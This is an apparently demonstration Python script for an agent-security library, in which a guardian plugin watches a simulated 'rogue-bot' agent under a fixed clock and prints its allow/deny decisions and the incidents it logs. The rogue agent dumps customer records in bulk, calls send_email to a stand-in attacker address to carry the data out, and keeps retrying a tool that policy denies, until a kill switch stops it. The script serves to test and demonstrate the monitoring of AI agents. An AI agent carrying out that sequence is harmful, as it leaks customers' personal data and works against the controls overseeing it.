"""The guardian example in Python: a finance guardian from the config file watches a rogue agent.

The clock is fixed (10:00 London time, 1 June 2026) and moved by the script, so the run is the same at
any hour; in production ``AgentSecurity`` reads the system clock.
"""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

from agent_security.core import AgentSecurity, MemoryStore
from agent_security.core.testing import FakeClock

HERE = Path(__file__).resolve().parent

clock = FakeClock(datetime(2026, 6, 1, 9, 0, tzinfo=UTC))  # 10:00 in London (BST)
security = AgentSecurity(
    config_path=HERE / "agent-security.toml",
    policy_path=HERE / "policy.json",
    store=MemoryStore(clock=clock),  # instead of the config's shared SQLite file: a fresh run every time
    clock=clock,
)
guardian = security.get_plugin("guardian-agent")


def call(agent: str, tool: str, step_s: float = 1.0, **args: object) -> None:
    clock.advance(step_s)
    result = security.check_tool_call(tool_name=tool, tool_args=args, agent_id=agent, environment="prod")
    print(f"{agent:12} {tool:18} {'ALLOW' if result.allowed else 'DENY '} {', '.join(result.final_decision.codes)}")


call("finance-bot", "query_customer_db", query="SELECT name FROM customers LIMIT 10")
for i in range(35):  # 35 bulk reads in 35 seconds: over 30 per minute for one tool
    call("rogue-bot", "query_customer_db", query=f"SELECT * FROM customers OFFSET {i * 1000} LIMIT 1000")
call("rogue-bot", "send_email", 30, to="drop@evil.example")  # read customers, then mail them out
for _ in range(11):
    call("rogue-bot", "export_all")  # denied by policy, eleven times in eleven seconds
call("rogue-bot", "query_customer_db", query="SELECT 1")  # killed: DENY AGENT_KILL_SWITCH
call("finance-bot", "query_customer_db", query="SELECT 1")

print()
for incident in guardian.incidents():
    print(f"{incident.type.value:20} {incident.severity:8} {incident.action_taken.value:8} {incident.description}")
security.shutdown()
